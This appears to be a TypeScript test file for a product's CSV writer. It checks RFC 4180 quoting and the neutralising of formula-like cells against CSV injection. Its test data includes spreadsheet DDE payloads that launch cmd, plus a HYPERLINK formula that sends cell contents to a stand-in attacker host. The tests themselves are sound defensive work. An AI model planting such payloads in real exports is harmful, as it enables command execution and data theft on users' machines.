// The one CSV writer: RFC 4180 quoting, and formula-like cells neutralised (OWASP CSV injection) in
// every CSV the product writes — reports and the console's CSV — while numbers stay numbers.
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { toCsv as consoleCsv } from '../../server/cli/table.ts';
import { csvText } from '../../server/csv.ts';
import type { Report } from '../../server/services/reports/model.ts';
import { toCsv as reportCsv } from '../../server/services/reports/render.ts';

/** What a spreadsheet would treat as a formula (or a DDE payload), one variant per trigger. */
const FORMULAS = [
  '=1+2',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1',
  '\r=1',
  '＝1+2',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "=cmd|'/C notepad'!A1",
];

describe('CSV writer', () => {
  it('prefixes every formula-like text cell with a quote, so spreadsheets open it as text', () => {
    for (const formula of FORMULAS) {
      const rows = parse(csvText([[formula, 'next']])) as string[][];
      expect(rows, JSON.stringify(formula)).to.deep.equal([[`'${formula}`, 'next']]);
    }
  });

  it('keeps numbers, plain text, quotes and line breaks as RFC 4180 says', () => {
    const text = csvText([
      ['name', 'n', 'note'],
      ['Kuantyrov, A.', -3, 'say "hi"\nbye'],
      ['a-b', 2.5, null],
      [true, 0, ''],
    ]);
    expect(text).to.equal('name,n,note\r\n"Kuantyrov, A.",-3,"say ""hi""\nbye"\r\na-b,2.5,\r\ntrue,0,\r\n');
    expect(parse(text)).to.deep.equal([
      ['name', 'n', 'note'],
      ['Kuantyrov, A.', '-3', 'say "hi"\nbye'],
      ['a-b', '2.5', ''],
      ['true', '0', ''],
    ]);
  });

  it('leaves formulas alone only where asked (the bulk importer’s files)', () => {
    expect(csvText([['=1', '-x']], { keepFormulas: true, quoteText: true, recordDelimiter: '\n' })).to.equal('"=1","-x"\n');
  });

  it('neutralises article text in report CSV downloads', () => {
    const quote = '=HYPERLINK("http://evil.example","Minister")';
    const report: Report = {
      kind: 'bilateral',
      title: 'T',
      subtitle: 'S',
      generatedAt: '2025-01-01T00:00:00Z',
      notes: [],
      sources: [],
      sections: [
        {
          id: 'agreements',
          title: 'Agreements',
          empty: 'none',
          statements: [
            {
              text: '+MoU — signed.',
              data: { status: '@signed' },
              citations: [{ sourceId: 'source:x', title: '-An article', published: '2025-02-28', quote, span: { start: 0, end: 20 } }],
            },
          ],
        },
      ],
    } as unknown as Report;
    const [, row] = parse(reportCsv(report)) as string[][];
    expect(row).to.deep.equal([
      'agreements',
      "'+MoU — signed.",
      '',
      '',
      "'@signed",
      'source:x',
      "'-An article",
      '2025-02-28',
      `'${quote}`,
      '0',
      '20',
    ]);
  });

  it('neutralises cells of the console’s CSV, numbers and dates left as they are', () => {
    const csv = consoleCsv(
      ['name', 'n', 'date'],
      [
        ['=2+5', -4, { $type: 'date', value: '2025-02-01' }],
        ['@x', 7, null],
      ],
    );
    expect(csv).to.equal("name,n,date\n'=2+5,-4,2025-02-01\n'@x,7,");
  });
});
